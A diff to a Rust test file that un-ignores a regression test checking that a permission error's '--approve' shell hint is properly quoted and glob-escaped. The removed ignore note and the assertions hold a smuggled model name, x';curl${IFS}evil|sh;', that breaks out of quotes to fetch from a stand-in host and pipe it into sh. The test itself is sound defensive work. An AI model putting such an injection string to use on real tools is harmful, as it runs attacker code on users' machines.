@@ -1182,15 +1182,10 @@ fn a_deny_on_a_model_covers_the_spellings_its_provider_takes_for_it() {
     }
 }
 
-/// Open: the `approve` hint of a `permission_required` error is the
-/// capability pasted between single quotes. A script-chosen model name
-/// holding `'` makes the hint, pasted into a shell, run what follows it;
-/// one holding `*` makes it approve every model it matches.
+/// The `approve` hint of a `permission_required` error, pasted into a
+/// shell, approves that one name: a script-chosen model name holding `'`
+/// does not break out of the quotes, and one holding `*` is escaped.
 #[test]
-#[ignore = "open: kernel/approval.rs writes the hint as --approve '{cap}', neither shell-quoting nor \
-            glob-escaping the capability, for every action (a path or a command line holding ' or * too); \
-            a model named x';curl${IFS}evil|sh;' gets a hint that runs curl when pasted, and one named * \
-            a hint that approves every model of the provider. The fix is the kernel's, not the model flow's"]
 fn the_approval_hint_for_an_odd_model_name_approves_that_name_only() {
     let ws = workspace();
     let server = ModelServer::respond(|_| OpenAi.text("never"));
@@ -1211,7 +1206,7 @@ model{provider = "local", model = "*", messages = hello}
     let out = lines(&run);
     assert_eq!(
         err(&out[0])["approve"],
-        r#"--approve 'model:call:local/x'\'';curl${IFS}evil|sh;'\'''"#
+        r#"--approve 'model:call:local/x'\'';curl$\{IFS\}evil|sh;'\'''"#
     );
     assert_eq!(
         err(&out[1])["approve"],
